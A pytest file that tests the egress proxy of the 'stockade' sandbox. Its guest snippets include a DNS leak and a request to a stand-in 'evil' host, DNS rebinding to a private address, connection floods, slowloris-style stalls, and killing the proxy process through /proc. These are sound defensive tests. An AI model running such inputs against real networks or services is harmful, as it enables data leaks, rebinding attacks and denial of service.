"""The bounds of a way out, its proxy, and requests that it lets through; the attacks on it are files of the corpus."""

from __future__ import annotations

import dataclasses
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from stockade import NetworkUse, Result
from stockade.attacks import corpus, trial
from stockade.attacks.trial import Verdict
from tests.support.internet import WEB, Internet

pytestmark = pytest.mark.needs("native", "small-internet")

_ALLOW = ("example.org:80", "example.org:443", "*.example.org:80", "*.example.org:443")
_KIT = f"""
import os, socket, ssl, sys, time
PROXY = os.environ.get("http_proxy") and ("127.0.0.1", 3128)
def raw(data, place=({WEB!r}, 80), wait=5):
    with socket.create_connection(PROXY or place, wait) as sock:
        sock.settimeout(wait)
        sock.sendall(data)
        found = b""
        try:
            while piece := sock.recv(1 << 16):
                found += piece
        except OSError:
            pass
    return found
def get(url, host=None, place=({WEB!r}, 80)):
    name, _, path = url.removeprefix("http://").partition("/")
    where = url if PROXY else "/" + path
    return raw(f"GET {{where}} HTTP/1.1\\r\\nHost: {{host or name}}\\r\\nConnection: close\\r\\n\\r\\n".encode(), place)
def tunnel(target, place=({WEB!r}, 443)):
    sock = socket.create_connection(PROXY or place, 5)
    sock.settimeout(5)
    if PROXY:
        sock.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode())
        answer = sock.recv(1 << 16)
        if b" 200 " not in answer:
            raise OSError(answer)
    return sock
def shake(sock, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(sock, server_hostname=name)
"""


_FIND_PROXY = """
import os, signal, sys, time, stockade
from pathlib import Path
def status(pid):
    return dict(line.split(":\\t") for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":\\t" in line)
def children(pid):
    return [int(each) for task in Path(f"/proc/{pid}/task").iterdir() for each in (task / "children").read_text().split()]
code = "import socket; s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'GET'); print(1, flush=True); input()"
runner = stockade.Runner(stockade.Policy(network=stockade.Network(allow=["example.org:80"])), backend="native")
stream = runner.stream(code, interactive=True)
for event in stream:
    if isinstance(event, stockade.Output):
        break
until, found = time.monotonic() + 10, []
while not found and time.monotonic() < until:
    time.sleep(0.05)
    found = [pid for pid in children(children(os.getpid())[0]) if int(status(pid)["Threads"]) > 1]
"""
_KILLED_CALLER = """
proxy = status(found[0])
own = proxy["Uid"].split()[0] != "0"
rights = [proxy[each].strip("0") for each in ("CapEff", "CapPrm", "CapInh")]
print(len(found), own, *rights, proxy["NoNewPrivs"], proxy["Seccomp"], found[0], flush=True)
os.kill(found[0], signal.SIGSTOP)  # it cannot even notice
os.kill(os.getpid(), signal.SIGKILL)
"""
_KILLED_PROXY = """
os.kill(found[0], getattr(signal, sys.argv[1]))
stream.write("x\\n")
for event in stream: pass
print(stream.result.outcome, stream.result.network.error)
"""


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    """Return a caller in a small internet."""
    net = Internet(tmp_path_factory.mktemp("internet"))
    yield net
    net.close()


def _hit(notes: list[dict[str, Any]], wanted: dict[str, Any]) -> bool:
    return any(all(note.get(key) == value for key, value in wanted.items()) for note in notes)


def _run(
    internet: Internet, code: str, allow: tuple[str, ...] = _ALLOW, **options: Any
) -> tuple[Result, NetworkUse, list[Any]]:
    answer = internet.ask("run", code=_KIT + code, network={"allow": list(allow), **options})
    assert "error" not in answer, answer
    result = Result.from_dict(answer["result"])
    assert result.network is not None and result.network.error is None
    return result, result.network, answer["notes"]


def test_name_is_resolved_outside_and_only_after_it_was_matched(internet: Internet) -> None:
    """A resolver carries no secret out, neither the guest's own nor the proxy's."""
    code = (
        "try: socket.getaddrinfo('secret.example.org', 80)\nexcept OSError as error: print(error.errno)\n"
        "get('http://secret.evil.example.net/')"
    )
    control = internet.ask("direct", code=_KIT + code.splitlines()[0] + "\nexcept OSError: pass")
    assert _hit(control["notes"], {"asked": "secret.example.org"})
    result, use, notes = _run(internet, code)
    assert use.refused == 1 and not [note for note in notes if "asked" in note], result.stderr


@pytest.mark.parametrize("name", ["network/tcp", "network/udp", "network/dns", "network/raw_socket"])
def test_attack_around_the_proxy_is_refused(name: str) -> None:
    attack = next(each for each in corpus.load() if each.id == name)
    tried = trial.attempt(dataclasses.replace(attack, policy={"network": {"allow": list(_ALLOW)}}))
    assert tried.verdict is Verdict.REFUSED, tried.confined.what if tried.confined else tried.reason


def test_rebound_name_is_refused_at_the_second_look_up(internet: Internet) -> None:
    code = "print(get('http://me.rebound.example.org/first')[:15]); print(get('http://me.rebound.example.org/second')[:12])"
    result, use, notes = _run(internet, code)
    assert result.stdout == "b'HTTP/1.1 200 OK'\nb'HTTP/1.1 403'\n"
    assert [note["path"] for note in notes if "path" in note] == ["/first"]
    assert len([note for note in notes if note.get("kind") == 1]) == 2  # one question for each request, none after it
    assert "10.0.0.5, a private address" in use.refusals[0].reason
    assert _hit(
        internet.ask(
            "direct", code=f"{_KIT}get('http://me.rebound.example.org/x', place=('me.rebound.example.org', 80))"
        )["notes"],
        {"path": "/x", "at": ["::ffff:10.0.0.5", 80]},
    )


def test_mixed_answer_leads_to_public_address_only(internet: Internet) -> None:
    result, use, notes = _run(internet, "print(get('http://mixed.example.org/x')[:15])")
    assert result.stdout == "b'HTTP/1.1 200 OK'\n" and use.refused == 0
    assert _hit(notes, {"path": "/x", "at": [f"::ffff:{WEB}", 80]})


def test_listed_address_allows_exactly_itself(internet: Internet) -> None:
    code = (
        "for url in ('http://10.0.0.5/a', 'http://10.0.0.5:8080/b', 'http://private.example.org/c', 'http://127.0.0.1/d'):\n"
        "    print(get(url)[9:12])"
    )
    result, _, notes = _run(internet, code, ("10.0.0.5:80", "127.0.0.1:80"))
    assert result.stdout == "b'200'\nb'403'\nb'403'\nb'200'\n"
    assert [note["path"] for note in notes if "path" in note] == ["/a"]


def test_flood_of_connections_is_bounded(internet: Internet) -> None:
    code = (
        "socks = []\n"
        "for number in range(1500):\n"
        "    try:\n        sock = socket.create_connection(PROXY, 5); sock.sendall(b'x\\r\\n\\r\\n'); socks.append(sock)\n"
        "        if len(socks) > 20: socks.pop(0).close()\n"
        "    except OSError: break\n"
        "print(number)"
    )
    result, use, _ = _run(internet, code, requests=50, connections=8)
    assert any("50 requests, the most that network.requests allows" in each.reason for each in use.refusals)
    assert use.requests <= 50 + 100 + 8 and use.refused <= use.requests
    assert result.ok and int(result.stdout) < 1400


def test_slow_requests_give_their_place_back(internet: Internet) -> None:
    code = (
        "slow = [socket.create_connection(PROXY) for _ in range(3)]\n"
        "for sock in slow: sock.sendall(b'GET http://exa')\n"
        "begin = time.monotonic(); answer = get('http://example.org/x')[9:12]\n"
        "print(answer, time.monotonic() - begin < 15, slow[0].recv(100)[9:12])"
    )
    result, use, _ = _run(internet, code, connections=2, connect_time=1)
    assert result.stdout == "b'200' True b'408'\n" and use.refused >= 2, (result.stderr, use)


def test_bytes_and_rate_are_bounded(internet: Internet) -> None:
    code = (
        "begin = time.monotonic(); got = len(get('http://example.org/bytes?count=3000000')); print(got, time.monotonic() - begin)\n"
        "print(len(get('http://example.org/bytes?count=3000000'))); print(get('http://example.org/x')[:12])"
    )
    result, use, _ = _run(internet, code, received=4_000_000, rate=4_000_000)
    first, second, third = result.stdout.splitlines()
    assert int(first.split()[0]) >= 3_000_000 and float(first.split()[1]) > 0.5
    assert int(second) < 1_100_000 and use.received <= 4_000_000
    assert any("4000000 bytes of network.received" in each.reason for each in use.refusals), (use, third)


def test_guest_that_reads_nothing_holds_only_itself(internet: Internet) -> None:
    code = (
        "socks = []\n"
        "for _ in range(3):\n    sock = socket.create_connection(PROXY); sock.sendall("
        "b'GET http://example.org/bytes?count=50000000 HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n'); socks.append(sock)\n"
        "time.sleep(0.5); print(get('http://example.org/x')[9:12])"
    )
    result, use, _ = _run(internet, code, rate="unlimited")
    assert result.stdout == "b'200'\n" and use.received < 60_000_000


def test_proxy_is_confined_and_ends_with_its_caller(internet: Internet) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _FIND_PROXY + _KILLED_CALLER])
    assert answer["status"] == -9, answer
    *found, proxy = answer["stdout"].split()
    assert found == ["1", "True", "1", "2"], answer
    there = "grep -q '^State:.[^ZX]' /proc/$0/status"
    waiting = f"for i in $(seq 50); do {there} || exit 0; sleep 0.1; done; exit 1"
    assert internet.ask("command", argv=["sh", "-c", waiting, proxy])["status"] == 0


@pytest.mark.parametrize(
    ("sign", "reason"),
    [("SIGKILL", "the proxy ended before the run"), ("SIGSTOP", "the proxy gave no account within 1 s")],
)
def test_run_outlives_its_proxy_and_says_so(internet: Internet, sign: str, reason: str) -> None:
    answer = internet.ask("command", argv=[sys.executable, "-c", _FIND_PROXY + _KILLED_PROXY, sign])
    assert answer["stdout"] == f"completed {reason}\n", answer
